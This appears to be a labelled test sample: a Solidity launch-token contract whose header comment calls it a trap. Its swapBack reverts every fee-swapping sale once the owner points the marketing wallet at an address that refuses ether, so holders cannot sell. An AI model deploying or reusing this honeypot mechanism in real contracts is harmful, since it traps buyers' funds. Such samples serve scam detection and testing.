// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EPair, IERouter} from "./Pair.sol";

// Trap: the usual launch token (limits with floors, fees with caps, transfer delay, swapBack), whose swapBack demands that the marketing wallet takes its ether. Sprung by: owner.updateMarketingWallet(the factory), which takes no ether: every sale that swaps the collected fees reverts.
contract ELaunch is ERC20, Ownable {
    address public immutable uniswapV2Pair;
    address public marketingWallet;
    address public devWallet;
    uint256 public maxTransactionAmount;
    uint256 public swapTokensAtAmount;
    uint256 public maxWallet;
    bool public limitsInEffect = true;
    bool public swapEnabled = true;
    bool public transferDelayEnabled = true;
    uint256 public buyMarketingFee = 3;
    uint256 public buyDevFee = 1;
    uint256 public sellMarketingFee = 3;
    uint256 public sellDevFee = 1;
    uint256 public tokensForMarketing;
    uint256 public tokensForDev;
    bool private _swapping;
    mapping(address => uint256) private _holderLastTransferBlock;
    mapping(address => bool) private _isExcludedFromFees;
    mapping(address => bool) public _isExcludedMaxTransactionAmount;

    event marketingWalletUpdated(address indexed newWallet, address indexed oldWallet);

    constructor() ERC20("Moon Cadet", "CADET") Ownable(msg.sender) {
        uint256 supply = 1_000_000_000 ether;
        uniswapV2Pair = EPair.predict(address(this));
        maxTransactionAmount = supply / 50;
        maxWallet = supply / 50;
        swapTokensAtAmount = supply / 100_000;
        marketingWallet = msg.sender;
        devWallet = msg.sender;
        _isExcludedFromFees[msg.sender] = true;
        _isExcludedFromFees[address(this)] = true;
        _isExcludedMaxTransactionAmount[msg.sender] = true;
        _isExcludedMaxTransactionAmount[uniswapV2Pair] = true;
        _isExcludedMaxTransactionAmount[EPair.ROUTER] = true;
        _isExcludedMaxTransactionAmount[address(this)] = true;
        _mint(msg.sender, supply);
        _approve(address(this), EPair.ROUTER, type(uint256).max);
    }

    receive() external payable {}

    function removeLimits() external onlyOwner {
        limitsInEffect = false;
    }

    function disableTransferDelay() external onlyOwner {
        transferDelayEnabled = false;
    }

    function updateSwapTokensAtAmount(uint256 newAmount) external onlyOwner {
        require(newAmount >= totalSupply() / 100_000, "Swap amount cannot be lower than 0.001% total supply.");
        require(newAmount <= (totalSupply() * 5) / 1000, "Swap amount cannot be higher than 0.5% total supply.");
        swapTokensAtAmount = newAmount;
    }

    function updateMaxTxnAmount(uint256 newNum) external onlyOwner {
        require(newNum >= totalSupply() / 100 / 1e18, "Cannot set lower than 1%");
        maxTransactionAmount = newNum * 1e18;
    }

    function updateMaxWalletAmount(uint256 newNum) external onlyOwner {
        require(newNum >= totalSupply() / 100 / 1e18, "Cannot set lower than 1%");
        maxWallet = newNum * 1e18;
    }

    function updateBuyFees(uint256 marketing, uint256 dev) external onlyOwner {
        require(marketing + dev <= 5, "Must keep fees at 5% or less");
        (buyMarketingFee, buyDevFee) = (marketing, dev);
    }

    function updateSellFees(uint256 marketing, uint256 dev) external onlyOwner {
        require(marketing + dev <= 5, "Must keep fees at 5% or less");
        (sellMarketingFee, sellDevFee) = (marketing, dev);
    }

    function excludeFromFees(address account, bool excluded) external onlyOwner {
        _isExcludedFromFees[account] = excluded;
    }

    function excludeFromMaxTransaction(address account, bool excluded) external onlyOwner {
        require(account != uniswapV2Pair, "pair");
        _isExcludedMaxTransactionAmount[account] = excluded;
    }

    function updateMarketingWallet(address newWallet) external onlyOwner {
        require(newWallet != address(0), "zero");
        emit marketingWalletUpdated(newWallet, marketingWallet);
        marketingWallet = newWallet;
    }

    function updateDevWallet(address newWallet) external onlyOwner {
        devWallet = newWallet;
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (from == address(0) || amount == 0 || _swapping) return super._update(from, to, amount);
        if (limitsInEffect && from != owner() && to != owner()) {
            if (transferDelayEnabled && to != EPair.ROUTER && to != uniswapV2Pair) {
                require(_holderLastTransferBlock[tx.origin] < block.number, "One purchase per block allowed.");
                _holderLastTransferBlock[tx.origin] = block.number;
            }
            if (from == uniswapV2Pair && !_isExcludedMaxTransactionAmount[to]) {
                require(amount <= maxTransactionAmount, "Buy transfer amount exceeds the maxTransactionAmount.");
                require(amount + balanceOf(to) <= maxWallet, "Max wallet exceeded");
            } else if (to == uniswapV2Pair && !_isExcludedMaxTransactionAmount[from]) {
                require(amount <= maxTransactionAmount, "Sell transfer amount exceeds the maxTransactionAmount.");
            }
        }
        bool free = _isExcludedFromFees[from] || _isExcludedFromFees[to];
        if (swapEnabled && !free && from != uniswapV2Pair && balanceOf(address(this)) >= swapTokensAtAmount) {
            _swapping = true;
            _swapBack();
            _swapping = false;
        }
        if (!free) {
            uint256 fees;
            if (to == uniswapV2Pair) {
                fees = (amount * (sellMarketingFee + sellDevFee)) / 100;
                tokensForDev += (amount * sellDevFee) / 100;
            } else if (from == uniswapV2Pair) {
                fees = (amount * (buyMarketingFee + buyDevFee)) / 100;
                tokensForDev += (amount * buyDevFee) / 100;
            }
            if (fees > 0) super._update(from, address(this), fees);
            amount -= fees;
        }
        super._update(from, to, amount);
    }

    function _swapBack() private {
        uint256 contractBalance = balanceOf(address(this));
        if (contractBalance > swapTokensAtAmount * 20) contractBalance = swapTokensAtAmount * 20;
        uint256 before = address(this).balance;
        address[] memory path = new address[](2);
        path[0] = address(this);
        path[1] = EPair.WETH;
        IERouter(EPair.ROUTER).swapExactTokensForETHSupportingFeeOnTransferTokens(
            contractBalance,
            0,
            path,
            address(this),
            block.timestamp
        );
        uint256 got = address(this).balance - before;
        uint256 forDev = got / 4;
        tokensForDev = 0;
        bool success;
        (success, ) = devWallet.call{value: forDev}("");
        (success, ) = marketingWallet.call{value: address(this).balance}("");
        require(success, "marketing");
    }
}
